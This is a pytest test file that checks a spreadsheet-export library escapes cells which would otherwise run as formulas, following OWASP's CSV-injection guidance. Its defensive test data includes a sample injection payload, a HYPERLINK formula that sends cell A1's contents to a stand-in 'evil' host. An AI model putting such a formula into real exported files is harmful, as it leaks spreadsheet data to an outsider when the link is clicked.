"""Exported cells never run as formulas (OWASP's rule for CSV/formula injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from fengchao.tabular import Sheet, csv_bytes, safe_cell, xlsx_bytes

EVIL = '=HYPERLINK("http://evil/?"&A1,"click")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("lead", TRIGGERS)
def test_text_starting_a_formula_is_neutralised(lead: str) -> None:
    assert safe_cell(lead + "1+1") == "'" + lead + "1+1"


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    for value in (-5, -2.5, 0, 3, None, "林国平", "5-1-101", "'quoted"):
        assert safe_cell(value) == value
    assert isinstance(safe_cell(-5), int)


def test_xlsx_has_no_formula_and_keeps_numbers() -> None:
    content = xlsx_bytes([Sheet("s", ["name", "n"], [[lead + EVIL[1:], -7] for lead in TRIGGERS])])
    sheet = openpyxl.load_workbook(io.BytesIO(content), data_only=False).active
    rows = list(sheet.iter_rows(min_row=2))
    assert all(cell.data_type != "f" for row in rows for cell in row)
    # A carriage return is written as Excel's escape _x000D_ (openpyxl leaves it escaped).
    expected = ["'" + (lead + EVIL[1:]).replace("\r", "_x000D_") for lead in TRIGGERS]
    assert [row[0].value for row in rows] == expected
    assert [row[1].value for row in rows] == [-7] * len(TRIGGERS)


def test_xlsx_drops_characters_xml_cannot_hold() -> None:
    content = xlsx_bytes([Sheet("s", ["name"], [["林\x00国\x1b平"]])])
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].value == "林国平"


def test_csv_is_neutralised_and_readable_by_excel() -> None:
    content = csv_bytes(["姓名", "数"], [[EVIL, -3], ["@SUM(A1)", 4]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content[3:].decode())))
    assert rows == [["姓名", "数"], ["'" + EVIL, "-3"], ["'@SUM(A1)", "4"]]
